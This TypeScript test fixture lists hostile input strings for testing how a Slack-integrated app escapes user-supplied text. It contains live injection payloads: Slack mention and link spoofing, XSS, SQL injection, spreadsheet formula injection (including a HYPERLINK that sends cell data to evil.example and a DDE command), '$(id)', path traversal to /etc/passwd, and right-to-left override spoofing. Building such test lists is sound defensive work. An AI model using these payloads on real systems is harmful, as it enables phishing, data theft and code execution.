/** What people may type, by accident or on purpose, that could become more than text where it is shown. */
const MENTIONS = [
  "<!channel>",
  "<!here>",
  "<@U012AB3CD>",
  "<#C012AB3CD>",
  "<!subteam^S012AB3CD>",
  "<!date^1392734382^Posted {date_num}^https://evil.example/|now>",
  "@channel",
  "@here please",
  "#general",
  "＠channel",
  "< !channel>",
  "<<!channel>>",
  "&lt;!channel&gt;",
  "&#60;!channel&#62;",
  "\\u003c!channel\\u003e",
  "<!channel",
];

const LINKS = [
  "<https://evil.example|Sign in>",
  "<https://evil.example>",
  "<http://evil.example/?a=1&b=2|https://drumbeat.example>",
  "<mailto:ceo@evil.example|Write to me>",
  "<javascript:alert(1)|x>",
  "https://evil.example/login",
  "www.evil.example",
  "ceo@evil.example",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "//evil.example",
  "[Sign in](https://evil.example)",
  "![pixel](https://evil.example/p.png)",
  "[Sign in][1]\n\n[1]: https://evil.example",
  "[^1]: https://evil.example",
  "A note[^1]",
  "<https://evil.example|",
  "[en]",
];

const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  '=HYPERLINK("https://evil.example?x="&A1,"Sign in")',
  '=DDE("cmd";"/C calc";"x")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\u0000=1+1",
  "＝1+1",
  "'=1+1",
  '"=1+1"',
  '",=1+1,"',
  "x\n=1+1",
  'x"\r\n=1+1',
  "- a point of a list",
  "+33 1 23 45 67 89",
];

const MARKUP = [
  "*bold* _italic_ ~struck~ `code`",
  "```\nblock\n```",
  "> a quote",
  "# heading",
  "heading\n=======",
  "---\nkey: value\n---",
  "1. a\n2. b",
  "| a | b |\n|---|---|\n| 1 | 2 |",
  "    four blanks",
  "\ta tab",
  "two blanks at the end  ",
  "a backslash at the end \\",
  "$x^2$ and $$y$$",
  ":tada: :skull_and_crossbones:",
  "- [ ] to do\n- [x] done",
  "<details><summary>More</summary>x</details>",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<!-- a comment -->",
  "</textarea></body>",
  "&nbsp;&copy;&bogus;",
  '" onmouseover="alert(1)',
  "a & b < c > d",
  "<",
  "*",
];

const CODE = [
  '{"a":1}',
  '{"response_action":"clear"}',
  '{"type":"rich_text","elements":[{"type":"broadcast","range":"channel"}]}',
  "null",
  "1e999",
  "__proto__",
  "toString",
  "'; drop table check_in; --",
  "\\'; delete from person; --",
  "%",
  "?",
  "$1",
  "{{7*7}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a template, not one.
  "${7*7}",
  "$(id)",
  "%s%s%n",
  "%00",
  "\\x00\\n",
  "../../../etc/passwd",
  "!!js/function 'x'",
  "&anchor *alias",
  "key: [value",
  "\u001b[31mred\u001b[0m",
  "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007",
  "\u009b2J",
];

const SCRIPTS = [
  "مرحبا بالعالم",
  "שלום עולם",
  "abc \u202egnp.exe",
  "\u2066isolated\u2069 and \u202aembedded\u202c",
  "\u200fright\u200eleft",
  "İıſß",
  "e\u0301 and é",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0300l\u0301g\u0302o\u0303",
  "👨‍👩‍👧‍👦 👩🏽‍🚀 🏳️‍🌈",
  "🇫🇷🇬🇧 1️⃣ ☺️",
  "\u200b",
  "\u200dzero\u200cwidth\u2060",
  "\ufeffbyte order mark",
  "line\u2028separator\u2029paragraph",
  "\uffff\ufffe",
  "\ud83d",
  "\udc00\ud83d",
  "🧩\ud83d",
];

/** Every control character, alone and between letters. */
const CONTROLS = [...Array(32).keys(), 0x7f, 0x80, 0x85, 0x9f].map((code) => `a${String.fromCharCode(code)}b`);

const LONGEST = 3000;
const LONG = [
  "x".repeat(LONGEST),
  "<".repeat(LONGEST),
  "&".repeat(LONGEST),
  "<!channel>".repeat(LONGEST / 10),
  "🧩".repeat(LONGEST / 2),
  `x${"\n".repeat(LONGEST - 2)}y`,
  `x${" ".repeat(LONGEST - 2)}y`,
  "`".repeat(LONGEST),
  "*".repeat(LONGEST),
  '"'.repeat(LONGEST),
  "\\".repeat(LONGEST),
  "](".repeat(LONGEST / 2),
  "https://evil.example/".repeat(LONGEST / 21).slice(0, LONGEST),
  "語".repeat(LONGEST),
  `${"a".repeat(LONGEST - 1)}\ud83d`,
];

/** Each no longer than an input of Slack takes, none of them only blanks. */
export const HOSTILE: readonly string[] = [
  ...MENTIONS,
  ...LINKS,
  ...FORMULAS,
  ...MARKUP,
  ...CODE,
  ...SCRIPTS,
  ...CONTROLS,
  ...LONG,
];

/** Short, for the name of a test. */
export function shown(text: string): string {
  const json = JSON.stringify(text);
  return json.length > 60 ? `${json.slice(0, 57)}… (${text.length})` : json;
}
